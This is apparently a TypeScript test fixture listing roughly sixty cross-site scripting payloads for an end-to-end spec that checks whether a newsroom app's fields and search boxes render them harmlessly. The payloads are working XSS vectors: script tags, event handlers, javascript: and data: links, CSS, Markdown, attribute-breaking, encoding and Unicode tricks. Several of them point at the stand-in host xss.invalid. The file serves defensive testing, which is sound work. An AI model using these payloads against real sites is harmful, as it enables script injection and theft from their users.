/**
 * The hostile-input corpus (e2e/xss-corpus.spec.ts types each one into every newsroom field and search box).
 *
 * Every payload that a browser ever ran would leave a trace the spec looks for: it sets the global
 * `__xss` to its own number, opens a dialog (alert), logs XSS_CONSOLE_MARKER, makes the page fetch a
 * payload address (`x`, `xss.invalid`), or is markup that would stand in the page as an element
 * (an element with id XSS_ELEMENT_ID, an event-handler attribute, a `javascript:` link) where text was
 * meant. Each fits every field it goes into: 10 to 60 characters (a correction needs 10, a section or
 * tag name takes 60), on one line, with nothing a form would trim at either end.
 */

export const XSS_GLOBAL = '__xss';
export const XSS_CONSOLE_MARKER = 'XSS-RAN';
export const XSS_ELEMENT_ID = 'xss-ran';
/** The host the payloads point at (.invalid never resolves): any request to it is a payload's. */
export const XSS_HOST = 'xss.invalid';

export interface XssPayload {
  label: string;
  text: string;
}

export const XSS_PAYLOADS: readonly XssPayload[] = [
  // Script elements
  { label: 'script element', text: '<script>__xss=1</script>' },
  { label: 'upper-case script with alert', text: "<SCRIPT>alert('xss-2')</SCRIPT>" },
  { label: 'closes a script element (JSON-LD)', text: '</script><script>__xss=3</script>' },
  { label: 'external script', text: '<script src="https://xss.invalid/4.js"></script>' },
  { label: 'script split by a nested tag', text: '<scr<script>ipt>__xss=5</scr</script>ipt>' },
  { label: 'script writing a console marker', text: "<script>console.log('XSS-RAN 6')</script>" },
  { label: 'script after closing a comment', text: '--></script><svg/onload=__xss=7>' },
  // Event handlers
  { label: 'img onerror', text: '<img src=x onerror=__xss=8>' },
  { label: 'svg onload with alert', text: "<svg onload=alert('xss-9')>" },
  { label: 'script inside svg', text: '<svg><script>__xss=10</script></svg>' },
  { label: 'details ontoggle', text: '<details open ontoggle=__xss=11>' },
  { label: 'autofocus onfocus', text: '<input autofocus onfocus=__xss=12>' },
  { label: 'element with the marker id', text: '<b id=xss-ran onclick=__xss=13>bold</b>' },
  // javascript:, data: and other addresses
  { label: 'javascript: link', text: '<a href="javascript:__xss=14">click</a>' },
  { label: 'mixed-case javascript: link', text: '<a href="JaVaScRiPt:alert(\'xss-15\')">x</a>' },
  { label: 'entity-encoded colon', text: '<a href="javascript&#58;__xss=16">x</a>' },
  { label: 'entity-encoded j after a space', text: '<a href=" &#106;avascript:__xss=17">x</a>' },
  { label: 'tab inside the scheme', text: '<a href="java\tscript:__xss=18">tab</a>' },
  { label: 'zero-width space inside the scheme', text: '<a href="java\u200Bscript:__xss=19">zw</a>' },
  { label: 'data:text/html link', text: '<a href="data:text/html,<script>__xss=20</script>">x</a>' },
  { label: 'iframe srcdoc', text: '<iframe srcdoc="<script>parent.__xss=21</script>">' },
  { label: 'iframe javascript: src', text: '<iframe src="javascript:parent.__xss=22">' },
  { label: 'object data', text: '<object data="javascript:__xss=23"></object>' },
  { label: 'form action', text: '<form action="javascript:__xss=24"><button>go' },
  { label: 'meta refresh', text: '<meta http-equiv=refresh content=0;url=//xss.invalid/25>' },
  { label: 'base href', text: '<base href="https://xss.invalid/26/">' },
  { label: 'external stylesheet', text: '<link rel=stylesheet href=https://xss.invalid/27.css>' },
  // CSS
  { label: 'style element with url()', text: '<style>*{background:url(//xss.invalid/28)}</style>' },
  { label: 'CSS expression()', text: '<p style="width:expression(__xss=29)">x</p>' },
  { label: 'CSS url(javascript:)', text: '<div style="background:url(javascript:__xss=30)">' },
  // Markdown
  { label: 'Markdown javascript: link', text: '[click me](javascript:__xss=31)' },
  { label: 'Markdown javascript: image', text: '![xss](javascript:__xss=32)' },
  { label: 'Markdown data: link', text: '[x](data:text/html,<script>__xss=33</script>)' },
  { label: 'Markdown title breaking its quotes', text: '[x](https://xss.invalid/34 "a\\" onclick=\\"__xss=34")' },
  { label: 'Markdown javascript: autolink', text: "<javascript:alert('xss-35')>" },
  { label: 'Markdown link with a zero-width joiner in the scheme', text: '[zwj](java\u200Dscript:__xss=58)' },
  { label: 'Markdown link text with onerror', text: '[<img src=x onerror=__xss=36>](https://a.invalid)' },
  // Broken markup and attribute breaking
  { label: 'closes a double-quoted attribute', text: '"><script>__xss=37</script>' },
  { label: 'closes a single-quoted attribute', text: "'><img src=x onerror=__xss=38>" },
  { label: 'adds attributes', text: '" autofocus onfocus="__xss=39" x="' },
  { label: 'unclosed attribute', text: '<img src="x" onerror="__xss=40' },
  { label: 'unclosed element with the marker id', text: '<b id="xss-ran">never closed' },
  { label: 'closes a textarea', text: '</textarea><script>__xss=42</script>' },
  { label: 'closes the title', text: '</title><script>__xss=43</script>' },
  { label: 'closes style and noscript', text: '</style></noscript><script>__xss=44</script>' },
  { label: 'XSS locator', text: '\'\';!--"<XSS>=&{()} xss-45' },
  // Templates
  { label: 'Angular template', text: "{{constructor.constructor('__xss=46')()}}" },
  // Comments, CDATA and XML (feeds and sitemaps)
  { label: 'unclosed HTML comment', text: 'xss-47 <!-- hides everything after it' },
  { label: 'CDATA end', text: ']]><script>__xss=48</script><![CDATA[' },
  { label: 'XML entity declaration', text: '<!DOCTYPE x [<!ENTITY e "xss-49">]>&e;' },
  // Encodings
  { label: 'double-encoded markup', text: '&lt;script&gt;__xss=50&lt;/script&gt;' },
  { label: 'JavaScript escapes as text', text: '\\u003cscript\\u003e__xss=51\\u003c/script\\u003e' },
  // Unicode
  { label: 'fullwidth angle brackets', text: '＜script＞__xss=52＜/script＞' },
  { label: 'right-to-left override', text: 'xss-53 \u202Egnp.exe <script>__xss=53</script>' },
  { label: 'line and paragraph separators', text: 'a\u2028b\u2029<script>__xss=54</script>' },
  { label: 'BOM and control characters', text: 'x\uFEFF\u0001\u0008<script>__xss=55</script>' },
  { label: 'combining marks and emoji', text: 'Z\u0334a\u0335l\u0336g\u0337o \u{1F642} <img src=x onerror=__xss=56>' },
  { label: 'letters that upper-case to ASCII', text: '<ſcript>__xss=57</ſcript><İmg src=x onerror=__xss=57>' },
];
